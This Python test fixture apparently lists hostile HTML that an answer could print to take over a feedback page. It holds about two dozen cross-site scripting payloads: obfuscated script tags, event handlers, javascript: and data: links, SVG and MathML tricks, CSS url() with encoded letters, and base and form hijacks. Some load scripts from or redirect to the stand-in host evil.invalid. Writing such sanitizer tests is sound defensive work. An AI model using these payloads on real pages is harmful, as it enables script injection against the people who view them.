"""What an answer may print as HTML to take over the page that shows it: it asks evil.invalid, or changes the title."""

PAGE = "<!DOCTYPE html>\n<html>\n<head>\n<title>x</title><style>p { color: red }</style></head>\n<body>@</body></html>"
"""The form of a feedback page; the answer stands in the place of @."""
HOSTILE = {
    "script": "<script>document.title = 'taken'</script>",
    "script in capitals": "<ScRiPt src=http://evil.invalid/a.js></sCrIpT >",
    "script in a script": "<scr<script>x</script>ipt>document.title = 'taken'</script>",
    "meta refresh": '<meta http-equiv="refresh" content="0; url=http://evil.invalid/">',
    "iframe": '<iframe src="http://evil.invalid/"></iframe>',
    "iframe with a page of its own": "<iframe srcdoc=\"<script>top.location = 'http://evil.invalid/'</script>\"></iframe>",
    "event handler": "<img src=x onerror=\"document.title = 'taken'\"><p onmouseover='x()'>here</p>",
    "javascript link": "<a id=hit href=\"javascript:document.title = 'taken'\">go</a>",
    "javascript link, hidden": "<a id=hit href=\" java\tscript&colon;document.title = 'taken'\">go</a>",
    "data link": '<a id=hit href="data:text/html,<script>x</script>">go</a>',
    "svg with a script": "<svg onload=\"document.title = 'taken'\"><script>document.title = 'taken'</script></svg>",
    "svg as a link": '<a href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">go</a>',
    "svg link": '<svg><a xlink:href="javascript:x()"><text y=9>go</text></a></svg>',
    "math": '<math><mtext><style><img src=x onerror="x()"></style></mtext></math>',
    "style": "<style>body { display: none } @import 'http://evil.invalid/';</style>",
    "base": '<base href="http://evil.invalid/">',
    "form": '<form action="http://evil.invalid/"><button formaction="javascript:x()">Log in</button></form>',
    "object": '<object data="http://evil.invalid/"></object><embed src="http://evil.invalid/">',
    "picture elsewhere": '<img src="http://evil.invalid/seen.png"><p style="background: url(http://evil.invalid/)">x</p>',
    "style in other letters": "<b style='background: &#117;rl(http://evil.invalid/)'>x</b>",
    "style, escaped": "<b style='background: u\\72l(http://evil.invalid/)'>x</b>",
    "end of the page": "</div></body></html><script>document.title = 'taken'</script>",
    "comment": "<!--><script>document.title = 'taken'</script>-->",
    "template": "<template><script>x</script></template><noscript><p title='</noscript><img onerror=x()>'></noscript>",
}
